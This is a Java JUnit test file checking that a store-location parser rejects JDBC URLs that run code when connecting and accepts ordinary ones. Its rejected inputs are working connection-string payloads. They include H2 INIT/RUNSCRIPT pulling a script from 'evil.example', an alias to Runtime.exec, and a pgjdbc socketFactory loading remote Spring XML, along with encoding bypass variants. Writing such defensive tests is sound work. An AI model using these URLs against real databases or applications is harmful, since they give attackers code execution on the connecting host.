package io.learncast.farm.store;

import io.learncast.common.UserError;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.junit.jupiter.api.Assertions.*;

/**
 * Store URLs that would run code when connecting are refused with a clear error — in any case, with any
 * spacing, and percent-encoded (pgjdbc decodes its parameters) — while ordinary URLs pass.
 */
class StoreLocationSecurityTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:tcp://127.0.0.1:9092/learncast;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
            "jdbc:h2:mem:x;init=runscript from 'x.sql'",
            "jdbc:h2:mem:x;InIt = SELECT 1",
            "jdbc:h2:mem:x;INIT%3DSELECT 1",
            "jdbc:h2:mem:x;%49NIT=SELECT 1",
            "jdbc:h2:mem:x;%2549NIT=SELECT 1",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS E FOR 'java.lang.Runtime.exec'",
            "jdbc:h2:file:/tmp/x;INIT=create alias e as 'String e() { return null; }'",
            "jdbc:h2:mem:x;RUNSCRIPT FROM 'x.sql'",
            "jdbc:h2:mem:x;RuNsCrIpT",
            "jdbc:h2:mem:x;CREATE/**/ALIAS e FOR 'x'",
            "jdbc:h2:mem:x;create%20alias e",
            "jdbc:h2:mem:x;CREATE+ALIAS e",
            "jdbc:h2:mem:x;CREATE\tTRIGGER t",
            "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER=com.evil.S",
            "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.A",
            "jdbc:postgresql://127.0.0.1/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
            "jdbc:postgresql://127.0.0.1/x?SOCKETFACTORY=x",
            "jdbc:postgresql://127.0.0.1/x?socket%46actory=x",
            "jdbc:postgresql://127.0.0.1/x?%73ocketFactory=x",
            "jdbc:postgresql://127.0.0.1/x?sslfactory=x",
            "jdbc:postgresql://127.0.0.1/x?sslhostnameverifier=x",
            "jdbc:postgresql://127.0.0.1/x?sslpasswordcallback=x",
            "jdbc:postgresql://127.0.0.1/x?authenticationPluginClassName=x",
            "jdbc:postgresql://127.0.0.1/x?loggerFile=/tmp/x",
            "  JDBC:H2:MEM:x;INIT=SELECT 1"})
    void codeRunningUrlsAreRefused(String url) {
        UserError e = assertThrows(UserError.class, () -> StoreLocation.parse(url, "--db"));
        assertEquals("--db", e.where());
        assertTrue(e.getMessage().contains("runs code when connecting"), e.getMessage());
        assertNotNull(e.hint());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:tcp://127.0.0.1:9092/learncast",
            "jdbc:h2:mem:ok;LOCK_TIMEOUT=1000",
            "jdbc:postgresql://db.example:5432/learncast?user=farm&password=p%40ss%2Bword&ssl=true",
            "jdbc:postgresql://127.0.0.1/initial_runs?ApplicationName=learncast"})
    void ordinaryUrlsPass(String url) {
        assertDoesNotThrow(() -> StoreLocation.parse(url, "--db"));
    }
}
